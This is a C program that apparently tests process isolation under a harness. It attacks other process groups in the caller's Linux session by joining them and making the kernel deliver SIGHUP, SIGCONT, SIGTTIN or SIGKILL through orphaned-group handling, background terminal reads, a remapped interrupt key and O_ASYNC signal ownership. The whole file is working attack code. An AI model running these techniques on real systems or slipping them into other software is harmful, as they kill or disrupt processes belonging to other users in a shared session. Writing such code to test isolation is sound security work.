// Attacks by the caller's session: what the kernel itself signals is a process group, and whoever is in the session can be in any of its groups.
//   session WHICH
// Every group that can be joined and was not made here is tried, the nearest number first. Whether somebody was hit, the harness sees.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { NUMBERS = 400 };

static void nap(long milliseconds) { nanosleep(&(struct timespec){milliseconds / 1000, milliseconds % 1000 * 1000000}, NULL); }

static int joins(pid_t group) {
  int status;
  pid_t child = fork();
  if (child == 0) _exit(setpgid(0, group) != 0);
  waitpid(child, &status, 0);
  return status == 0;
}

// Makes the group a newly orphaned one with a stopped member: SIGHUP and SIGCONT for all in it (exit.c, kill_orphaned_pgrp).
static void orphan(pid_t group) {
  int ready[2], status;
  char byte;
  if (pipe(ready) != 0) return;
  if (fork() == 0) {
    // Leaves the session, so that its child's parent counts for nothing.
    if (fork() == 0) {
      signal(SIGHUP, SIG_IGN);
      setpgid(0, group);
      prctl(PR_SET_CHILD_SUBREAPER, 1);
      pid_t stopped = fork();
      if (stopped == 0) {
        raise(SIGSTOP);
        _exit(0);
      }
      waitpid(stopped, &status, WUNTRACED);
      if (write(ready[1], "x", 1) != 1) _exit(1);
      nap(1000);
      kill(stopped, SIGKILL);
      _exit(0);
    }
    nap(100);
    setsid();
    if (write(ready[1], "x", 1) != 1) _exit(1);
    nap(1000);
    _exit(0);
  }
  if (read(ready[0], &byte, 1) != 1 || read(ready[0], &byte, 1) != 1) return;
  // The last one whose parent is in the session and in another group.
  pid_t last = fork();
  if (last == 0) {
    setpgid(0, group);
    signal(SIGHUP, SIG_IGN);
    _exit(0);
  }
  waitpid(last, &status, 0);
}

// Reads the terminal from a group that has not its foreground: SIGTTIN for all in it (n_tty.c, job_control).
static void reader(pid_t group) {
  tcsetpgrp(0, getpgrp());
  pid_t child = fork();
  if (child == 0) {
    char byte;
    setpgid(0, group);
    _exit(read(0, &byte, 1) < 0);
  }
  nap(1000);
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
}

// Gives a group the foreground, and another key the meaning of Ctrl-C.
static void keys(pid_t group) {
  struct termios settings;
  tcgetattr(0, &settings);
  settings.c_cc[VINTR] = 'x';
  settings.c_lflag |= ISIG | ICANON;
  tcsetattr(0, TCSANOW, &settings);
  tcsetpgrp(0, group);
  puts("press");
  nap(1500);
  tcsetpgrp(0, getpgrp());
}

// An open file of a terminal without an owner gets the foreground group for one when O_ASYNC is set (tty_io.c, tty_fasync).
static void input(pid_t group) {
  tcsetpgrp(0, group);
  fcntl(0, F_SETOWN, 0);
  fcntl(0, F_SETSIG, SIGKILL);
  fcntl(0, F_SETFL, O_ASYNC | O_NONBLOCK);
  puts("press");
  nap(1500);
  fcntl(0, F_SETFL, 0);
  tcsetpgrp(0, getpgrp());
}

// Its caller is the owner of what it was lent, and is to be told of input: which signal tells, anybody may say who has the open file.
static void lent(void) {
  fcntl(0, F_SETSIG, SIGKILL);
  int async = 1;
  if (ioctl(0, FIOASYNC, &async) != 0) fcntl(0, F_SETFL, O_ASYNC);
  puts("press");
  nap(1500);
}

int main(int argc, char **argv) {
  static const struct {
    const char *name;
    void (*run)(pid_t group);
  } attacks[] = {{"orphan", orphan}, {"reader", reader}, {"keys", keys}, {"input", input}};
  if (argc < 2) return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  signal(SIGTTOU, SIG_IGN);
  if (strcmp(argv[1], "lent") == 0) lent();
  if (strcmp(argv[1], "stop") == 0) raise(SIGSTOP);
  pid_t former = getpgrp();
  if (former != getpid()) setpgid(0, 0);
  pid_t own = getpid();
  for (unsigned index = 0; index < sizeof attacks / sizeof *attacks; index++) {
    if (strcmp(argv[1], attacks[index].name) != 0) continue;
    for (pid_t group = own - 1; group > own - NUMBERS && group > 0; group--) {
      if (!joins(group)) continue;
      printf("joined a group\n");
      attacks[index].run(group);
    }
  }
  puts("finished");
}
